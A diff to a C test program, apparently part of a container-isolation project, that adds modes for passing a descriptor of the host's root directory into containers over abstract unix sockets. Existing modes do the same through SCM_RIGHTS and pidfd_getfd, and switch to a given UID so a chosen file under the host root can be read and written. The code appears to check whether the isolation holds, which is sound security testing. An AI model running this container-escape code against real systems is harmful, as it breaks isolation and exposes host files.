@@ -5,7 +5,10 @@
  *   attack inside UID:GID FILE   in the container: by every way that the kernel knows, a child becomes UID, for
  *                            an accomplice outside to come in through; whoever hands in a descriptor of the
  *                            host's root directory gets FILE below it read and written
- *   attack outside FILE…     on the host, as the user: hands the host's root directory to every process of the
+ *   attack abstract FILE     in the container: the same for what comes by an abstract socket of its network
+ *   attack relay             in another container on that network, which has the user's own id: passes on to that
+ *                            socket what is handed in from outside
+ *   attack outside           on the host, as the user: hands the host's root directory to every process of the
  *                            user's that is in another process namespace, by unix socket and by pidfd_getfd(2)
  *
  * What it says: `uid by WAY` for each way that worked, `reached TEXT` when the file was read.
@@ -27,6 +30,7 @@
 #include <unistd.h>
 
 #define SOCKET "/tmp/attack.sock"
+#define ABSTRACT "\0safedocker-attack"
 #define SECONDS 20
 
 static void say(const char *format, const char *what)
@@ -156,6 +160,77 @@ static void use(int root, const char *file)
 	}
 }
 
+static int hand_over(int socket_fd, int fd)
+{
+	char byte = 'x', control[CMSG_SPACE(sizeof(int))] = "";
+	struct iovec iov = { &byte, 1 };
+	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
+	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(c), &fd, sizeof(fd));
+	return sendmsg(socket_fd, &m, MSG_NOSIGNAL | MSG_DONTWAIT) > 0 ? 0 : -1;
+}
+
+static int hand_root_over(int socket_fd)
+{
+	int root = open("/", O_RDONLY | O_DIRECTORY);
+	int r = hand_over(socket_fd, root);
+
+	(void)close(root);
+	return r;
+}
+
+static struct sockaddr_un abstract(void)
+{
+	struct sockaddr_un address = { .sun_family = AF_UNIX };
+
+	memcpy(address.sun_path, ABSTRACT, sizeof(ABSTRACT));
+	return address;
+}
+
+static void pass_on(int root)
+{
+	struct sockaddr_un address = abstract();
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+
+	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0 && hand_over(fd, root) == 0)
+		say("%s\n", "passed on");
+	else
+		say("not passed on: %s\n", strerror(errno));
+	(void)close(fd);
+}
+
+static int by_abstract(const char *file)
+{
+	struct sockaddr_un address = abstract();
+	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
+
+	if (bind(listener, (struct sockaddr *)&address, sizeof(address)) < 0 || listen(listener, 20) < 0) {
+		say("cannot begin: %s\n", strerror(errno));
+		return 1;
+	}
+	say("%s\n", "ready");
+	for (int i = 0; i < SECONDS * 10; i++) {
+		struct pollfd one = { .fd = listener, .events = POLLIN };
+		int client, got;
+
+		if (poll(&one, 1, 100) <= 0)
+			continue;
+		client = accept(listener, NULL, NULL);
+		one.fd = client;
+		(void)poll(&one, 1, 1000);
+		got = receive(client);
+		(void)close(client);
+		if (got >= 0)
+			use(got, file);
+	}
+	return 0;
+}
+
+/* Without a file: what is handed in is passed on, and nothing else tried. */
 static int inside(const char *self, uid_t uid, gid_t gid, const char *file)
 {
 	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = SOCKET };
@@ -168,7 +243,10 @@ static int inside(const char *self, uid_t uid, gid_t gid, const char *file)
 		return 1;
 	}
 	(void)chmod(SOCKET, 0777);
-	become(self, uid, gid, pair[1]);
+	if (file != NULL)
+		become(self, uid, gid, pair[1]);
+	else
+		(void)dup2(pair[1], 9);
 	say("%s\n", "ready");
 	for (int i = 0; i < SECONDS * 10; i++) {
 		struct pollfd fds[2] = { { .fd = listener, .events = POLLIN }, { .fd = pair[0], .events = POLLIN } };
@@ -186,44 +264,28 @@ static int inside(const char *self, uid_t uid, gid_t gid, const char *file)
 		} else if (fds[1].revents != 0) {
 			got = receive(pair[0]);
 		}
-		if (got >= 0)
+		if (got >= 0 && file != NULL)
 			use(got, file);
+		else if (got >= 0)
+			pass_on(got);
 	}
 	say("%s\n", "done");
 	return 0;
 }
 
 /* --- handing it in -------------------------------------------------------------------------- */
-static int hand_over(int socket_fd)
-{
-	int root = open("/", O_RDONLY | O_DIRECTORY);
-	char byte = 'x', control[CMSG_SPACE(sizeof(int))] = "";
-	struct iovec iov = { &byte, 1 };
-	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
-	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
-	ssize_t n;
-
-	c->cmsg_level = SOL_SOCKET;
-	c->cmsg_type = SCM_RIGHTS;
-	c->cmsg_len = CMSG_LEN(sizeof(int));
-	memcpy(CMSG_DATA(c), &root, sizeof(root));
-	n = sendmsg(socket_fd, &m, MSG_NOSIGNAL | MSG_DONTWAIT);
-	(void)close(root);
-	return n > 0 ? 0 : -1;
-}
-
 static void try_process(const char *pid)
 {
 	struct sockaddr_un address = { .sun_family = AF_UNIX };
 	int fd = socket(AF_UNIX, SOCK_STREAM, 0), process = (int)syscall(434 /* pidfd_open */, atoi(pid), 0);
 
 	(void)snprintf(address.sun_path, sizeof(address.sun_path), "/proc/%.12s/root" SOCKET, pid);
-	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0 && hand_over(fd) == 0)
+	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0 && hand_root_over(fd) == 0)
 		say("%s\n", "handed in by socket");
 	(void)close(fd);
 	for (int i = 3; i < 12 && process >= 0; i++) {
 		fd = (int)syscall(438 /* pidfd_getfd */, process, i, 0);
-		if (fd >= 0 && hand_over(fd) == 0)
+		if (fd >= 0 && hand_root_over(fd) == 0)
 			say("%s\n", "handed in by pidfd_getfd");
 		if (fd >= 0)
 			(void)close(fd);
@@ -265,6 +327,10 @@ int main(int argc, char **argv)
 	(void)!readlink("/proc/self/exe", self, sizeof(self) - 1);
 	if (argc == 4 && strcmp(argv[1], "inside") == 0 && strchr(argv[2], ':') != NULL)
 		return inside(self, (uid_t)atoi(argv[2]), (gid_t)atoi(strchr(argv[2], ':') + 1), argv[3]);
+	if (argc == 3 && strcmp(argv[1], "abstract") == 0)
+		return by_abstract(argv[2]);
+	if (argc == 2 && strcmp(argv[1], "relay") == 0)
+		return inside(self, 0, 0, NULL);
 	/* Does this kernel take 32-bit system calls at all? */
 	if (argc == 2 && strcmp(argv[1], "old-calls") == 0)
 		return old_call(24 /* getuid */, 0, 0, 0) < 0;
